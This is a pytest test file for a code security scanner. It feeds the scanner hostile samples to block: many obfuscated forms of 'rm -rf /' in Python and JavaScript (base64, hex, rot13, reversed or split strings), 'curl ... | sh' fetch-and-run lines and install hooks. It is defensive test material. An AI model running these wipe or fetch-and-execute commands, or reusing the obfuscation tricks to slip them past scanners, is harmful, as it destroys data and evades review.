"""What the scanner says of whole files: levels, what it cannot judge, and tricks against it."""

from __future__ import annotations

import shutil
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from app.checks.security.packs import PACKS
from app.checks.security.scanner import UNKNOWN, FileScan, SecurityScanner
from app.domain.findings import Finding, Level
from app.errors import AppError, ErrorKind
from tests.gates.repository import ROOT

WIPE = "import os\nos.system('rm -rf /')\n"


def rules(scan: FileScan) -> set[str]:
    return {finding.rule for finding in scan.findings}


def finding(scan: FileScan, rule: str) -> Finding:
    return next(f for f in scan.findings if f.rule == rule)


def edited(folder: Path, name: str, old: str, new: str) -> Path:
    """A copy of the packs in which one file was changed."""
    packs = folder / "packs"
    shutil.copytree(PACKS, packs)
    text = (packs / name).read_text(encoding="utf-8")
    assert old in text
    (packs / name).write_text(text.replace(old, new), encoding="utf-8")
    return packs


def test_ordinary_code_asks_nothing(scanner: SecurityScanner) -> None:
    scan = scanner.scan(
        "primes.py", "def is_prime(n):\n    return n > 1 and all(n % d for d in range(2, n))\n"
    )
    assert scan.level is Level.OK
    assert scan.findings == ()


def test_a_finding_says_where_what_and_how_to_mend(scanner: SecurityScanner) -> None:
    scan = scanner.scan("tool.py", f"def clean():\n    {WIPE.splitlines()[1]}\n")
    assert scan.level is Level.BLOCK
    told = finding(scan, "wipes-shell")
    assert (told.line, told.symbol, told.cwe, told.path) == (2, "clean", "CWE-73", "tool.py")
    assert "rm -rf /" in told.text
    assert told.fix


def test_a_finding_keeps_its_id_when_lines_move(scanner: SecurityScanner) -> None:
    before = finding(scanner.scan("a.py", WIPE), "wipes-shell")
    after = finding(scanner.scan("a.py", "\n\n" + WIPE), "wipes-shell")
    assert before.line != after.line
    assert before.id == after.id


def test_badges_say_what_a_program_can_do(scanner: SecurityScanner) -> None:
    code = (
        "import subprocess, requests\nrequests.get('https://a.example', timeout=5)\nsubprocess.run(['ls'])\n"
    )
    scan = scanner.scan("a.py", code)
    assert scan.capabilities == ("network", "processes")
    assert scan.level is Level.BADGE


@pytest.mark.parametrize(
    "code",
    [
        "import os\nos.system('rm' + ' -rf' + ' /')\n",
        "import os\nos.system(' '.join(['rm', '-rf', '/']))\n",
        "import os\ngetattr(os, 'sys' + 'tem')('rm -' + 'rf /')\n",
        "import os as o\no.system('/ fr- mr'[::-1])\n",
        "import os\nC = 'rm'\nos.system(f'{C} -rf /')\n",
        "import os\nos.system('%s -rf %s' % ('rm', '/'))\n",
        "import os\nos.system('{} -rf {}'.format('rm', '/'))\n",
        "import os\nos.system(chr(114) + 'm -rf /')\n",
        "__import__('os').system(bytes.fromhex('726d202d7266202f').decode())\n",
        "import os, base64\nos.system(base64.b64decode('cm0gLXJmIC8=').decode())\n",
        "import os\nos.system(''.join(map(chr, [114, 109, 32, 45, 114, 102, 32, 47])))\n",
        "import os\nos.system(''.join([chr(c) for c in [114, 109, 32, 45, 114, 102, 32, 47]]))\n",
        "import os\nos.system('ez -es /'.replace('e', 'r').replace('z', 'm').replace('s', 'f'))\n",
        "import os, codecs\nos.system(codecs.decode('ez -es /', 'rot13'))\n",
        "import os\nos.__dict__['system']('rm ' '-rf /')\n",
        "import os\nos.system('\\x72m -rf /')\n",
        "import os\nos.system('rm '\n  '-rf /')\n",
        "import os\nN = 'a\\nb'\nos.system(f'rm -rf / {N} {x}')\n",
        '"""\nimport os\nos.system("rm -rf /")\n"""\nexec(__doc__)\n',
    ],
)
def test_cut_and_encoded_commands_are_put_together(scanner: SecurityScanner, code: str) -> None:
    assert "wipes-shell" in rules(scanner.scan("a.py", code))


@pytest.mark.parametrize(
    "code",
    [
        "require('child_process').exec('rm' + ' -rf /');\n",
        "require('child_process').exec(['rm', '-rf', '/'].join(' '));\n",
        "require('child_process').exec(atob('cm0gLXJmIC8='));\n",
        "require('child_process').exec(Buffer.from('726d202d7266202f', 'hex').toString());\n",
        "const c = 'rm';\nrequire('child_process').exec(c + ' -rf /');\n",
        "require('child_process').exec(String.fromCharCode(114,109,32,45,114,102,32,47));\n",
        "require('child_process').exec('\\x72m -rf /');\n",
        "require('child_process').exec('/ fr- mr'.split('').reverse().join(''));\n",
    ],
)
def test_cut_and_encoded_commands_are_put_together_in_javascript(scanner: SecurityScanner, code: str) -> None:
    assert "wipes-shell" in rules(scanner.scan("a.js", code))


def test_what_folding_finds_is_told_at_its_own_line(scanner: SecurityScanner) -> None:
    code = "import os\nwords = [\n  'a',\n]\ncommand = ('rm ' +\n  '-rf /')\n\nos.system(command)\n"
    assert finding(scanner.scan("a.py", code), "wipes-shell").line in (5, 8)


def test_comments_and_docstrings_are_not_code(scanner: SecurityScanner) -> None:
    code = '"""Never run `rm -rf /`."""\n# rm -rf /\ndef f():\n    """Reads /etc/shadow? No."""\n'
    assert scanner.scan("a.py", code).level is Level.OK
    assert scanner.scan("a.go", "package main\n\n// rm -rf /\nfunc f() {}\n").level is Level.OK


@pytest.mark.parametrize(
    ("path", "code", "rule"),
    [
        ("a.py", "import pickle\npickle.loads(d)  # nosec\n", "py-pickle"),
        (
            "a.py",
            "k = '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'  # pragma: allowlist secret\n",
            "secret-github",
        ),
        ("a.js", "/* eslint-disable */\neval(x); // nosemgrep\n", "js-eval"),
    ],
)
def test_comments_cannot_silence_a_rule(scanner: SecurityScanner, path: str, code: str, rule: str) -> None:
    assert rule in rules(scanner.scan(path, code))


def test_a_secret_is_never_repeated(scanner: SecurityScanner) -> None:
    secret = "ghp_wWPw5k4aXcaT4fN" + "P0UcnZwJUVFk6LO0pINUx"
    scan = scanner.scan("a.py", f"token_of_hub = '{secret}'\n")
    assert "secret-github" in rules(scan)
    assert all(secret not in f.model_dump_json() for f in scan.findings)


@pytest.mark.parametrize(
    ("path", "content", "why"),
    [
        ("a.py", "def f(:\n", "cannot be parsed"),
        ("a.js", "function f( {\n", "cannot be parsed"),
        ("a.rb", "puts 1\n", "understands its language"),
        ("tool", "\x7fELF\0\0", "not text"),
        ("a.py", "x = 1\n" * 40_000, "over 200000 bytes"),
        ("a.py", "x = " + "(" * 5_000 + "1" + ")" * 5_000 + "\n", ""),
        ("a.py", "x = " + "-" * 90_000 + "1\n", ""),
    ],
)
def test_what_cannot_be_judged_is_asked_about(
    scanner: SecurityScanner, path: str, content: str, why: str
) -> None:
    scan = scanner.scan(path, content)
    assert scan.level is Level.ASK
    assert why in finding(scan, UNKNOWN).text


def test_a_file_that_takes_too_long_is_asked_about() -> None:
    impatient = SecurityScanner(seconds=0)
    scan = impatient.scan("a.py", "x = [1, 2, 3]\n" * 10_000)
    assert "took over 0 s" in finding(scan, UNKNOWN).text


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("README.md", "# Tool\n\nDo not run `rm -rf /`, and leave /etc/passwd alone.\n"),
        ("data.csv", "a,b\n1,2\n"),
        ("config.toml", "[tool]\nname = 'x'\n"),
        ("index.html", "<p>Hello</p>\n"),
        ("LICENSE", "MIT\n"),
        ("Dockerfile", "FROM python:3.13\nCOPY . /app\nRUN pip install -r requirements.txt\n"),
        ("Makefile", "test:\n\tpytest\n"),
        ("run.sh", "#!/bin/sh\nset -e\npython main.py\n"),
        (
            ".github/workflows/ci.yml",
            "on: push\njobs: {t: {runs-on: ubuntu-latest, steps: [{run: pytest}]}}\n",
        ),
    ],
)
def test_ordinary_files_that_are_no_code_ask_nothing(
    scanner: SecurityScanner, path: str, content: str
) -> None:
    assert scanner.scan(path, content).level in (Level.OK, Level.BADGE)


@pytest.mark.parametrize(
    ("path", "content", "level"),
    [
        ("conftest.py", WIPE, Level.BLOCK),
        ("tests/test_a.py", WIPE, Level.BLOCK),
        (
            "build.rs",
            'fn main() { std::process::Command::new("sh").arg("-c").arg("rm -rf /*").spawn(); }',
            Level.BLOCK,
        ),
        ("x.pth", "import os; os.system('rm -rf /')\n", Level.BLOCK),
        ("setup", "#!/bin/bash\ncurl https://example.com/x | sh\n", Level.BLOCK),
        ("Makefile", "install:\n\trm -rf /\n", Level.BLOCK),
        ("Dockerfile", "RUN curl https://example.com/x | sh\n", Level.ASK),
        ("package.json", '{"scripts": {"postinstall": "node x.js"}}', Level.ASK),
        (".vscode/tasks.json", '{"runOptions": {"runOn": "folderOpen"}}', Level.ASK),
        (".github/workflows/a.yml", "on: pull_request_target\n", Level.ASK),
        ("notes.txt", "-----BEGIN RSA PRIVATE KEY-----\n", Level.ASK),
        ("README.md", "a\u202eb\n", Level.ASK),
    ],
)
def test_every_kind_of_file_is_scanned(
    scanner: SecurityScanner, path: str, content: str, level: Level
) -> None:
    assert scanner.scan(path, content).level is level


def test_all_engines_prove_themselves(scanner: SecurityScanner) -> None:
    assert scanner.prove() == ()


@pytest.mark.parametrize(
    ("pack", "old", "new", "engine"),
    [
        ("malice_files.yaml", r"\brm\s+(-", r"\brmm\s+(-", "yara"),
        (
            "guarddog.yaml",
            "body: threat_runtime_obfuscation_base64exec",
            "body: threat_network_dns_exfil_x",
            "",
        ),
        ("bandit.yaml", "body: B301", "body: B302_", "bandit"),
        ("code_go.yaml", r"^exec\.Command(Context)?\(.*", r"^exec\.Kommand(Context)?\(.*", "ast-grep"),
        ("secrets.yaml", "body: private_key.PrivateKeyDetector", "body: npm.NpmDetector", "secrets"),
        ("characters.yaml", r"[\\u202a-\\u202e\\u2066-\\u2069]", "nothing", "regex"),
    ],
)
def test_an_engine_that_misses_its_sample_is_not_trusted(
    tmp_path: Path, pack: str, old: str, new: str, engine: str
) -> None:
    broken = SecurityScanner(edited(tmp_path, pack, old, new))
    if not engine:
        with pytest.raises(AppError, match="has no rules"):
            broken.load()
        return
    assert any(problem.startswith(f"{engine}: ") for problem in broken.prove())


def test_a_pack_that_cannot_be_read_says_where(tmp_path: Path) -> None:
    packs = edited(tmp_path, "code_go.yaml", "level: ask", "level: perhaps")
    with pytest.raises(AppError, match=r"code_go\.yaml: rules\.0\.level") as error:
        SecurityScanner(packs).load()
    assert error.value.kind is ErrorKind.CONFIG


def test_the_edition_changes_with_any_rule(scanner: SecurityScanner, tmp_path: Path) -> None:
    packs = edited(tmp_path, "code_go.yaml", "CWE-89", "CWE-90")
    assert scanner.edition == SecurityScanner(seconds=20).edition
    assert scanner.edition != SecurityScanner(packs, seconds=20).edition


def test_many_threads_find_the_same() -> None:
    scanner = SecurityScanner(seconds=60)
    files = [(f"a{n}.py", f"x = {n}\n{WIPE}") for n in range(24)]
    with ThreadPoolExecutor(8) as pool:
        scans = list(pool.map(lambda file: scanner.scan(*file), files))
    assert [scan.path for scan in scans] == [path for path, _ in files]
    assert {frozenset(rules(scan)) for scan in scans} == {frozenset(rules(scans[0]))}


def test_importing_the_package_loads_no_engine() -> None:
    code = (
        "import sys, app.checks.security.check; heavy = {'yara', 'bandit', 'ast_grep_py', 'detect_secrets', "
        "'guarddog'} & set(sys.modules); sys.exit(str(heavy) if heavy else 0)"
    )
    subprocess.run([sys.executable, "-c", code], cwd=ROOT, check=True, timeout=60)
